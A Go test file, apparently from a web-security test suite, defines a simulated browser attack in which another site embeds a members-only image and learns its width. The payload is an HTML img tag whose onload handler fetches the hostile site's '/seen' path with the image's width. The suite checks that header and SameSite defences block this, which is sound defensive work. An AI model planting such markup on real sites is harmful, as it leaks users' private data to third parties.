package attack

import (
	"bytes"
	"context"
	"fmt"
	"image"
	"image/png"
)

func pictureSeenByAnotherSite() Attack {
	return Attack{
		Name: "picture-seen-by-another-site", Group: "browser", Browser: true,
		Title:  "Another site shows Alice a picture of Acme's that only its members may see, and learns how large it is",
		Expect: []string{"transport/headers", "transport/samesite"},
		Run: func(ctx context.Context, s *Scene) (bool, error) {
			const width = 41
			var picture bytes.Buffer
			png.Encode(&picture, image.NewGray(image.Rect(0, 0, width, 30))) // a buffer takes everything
			return s.enclosed(ctx, "plan.png", picture.Bytes(), below, func(file, _ string) (bool, error) {
				evil, err := s.elsewhere(ctx)
				if err != nil {
					return false, err
				}
				alice, err := s.seat(ctx, "alice")
				if err != nil {
					return false, err
				}
				evil.show("/", fmt.Sprintf(`<img src="%s/files/%s/small" onload="fetch('/seen?'+this.naturalWidth)" onerror="fetch('/nothing')">`, s.Origin, file))
				if err := alice.opens(evil.Origin + "/"); err != nil {
					return false, err
				}
				alice.within(aWhile, func() bool { return evil.was("GET /seen") || evil.was("GET /nothing") })
				return evil.was(fmt.Sprint("GET /seen?", width)), nil
			})
		},
	}
}
